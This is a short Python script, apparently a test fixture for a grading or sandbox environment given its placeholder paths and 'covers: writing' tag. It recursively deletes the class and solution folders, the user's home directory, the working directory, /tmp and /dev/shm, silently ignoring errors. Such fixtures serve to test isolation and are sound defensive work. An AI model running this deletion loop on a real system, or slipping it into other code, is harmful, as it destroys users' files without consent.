"""Removes all that it can reach: the class, the solutions, the home folder, its own scratch.

covers: writing
"""

# %% top
import os
import shutil

for folder in ("@class@", "@source@", "@home@", os.path.expanduser("~"), os.getcwd(), "/tmp", "/dev/shm"):
    shutil.rmtree(folder, ignore_errors=True)
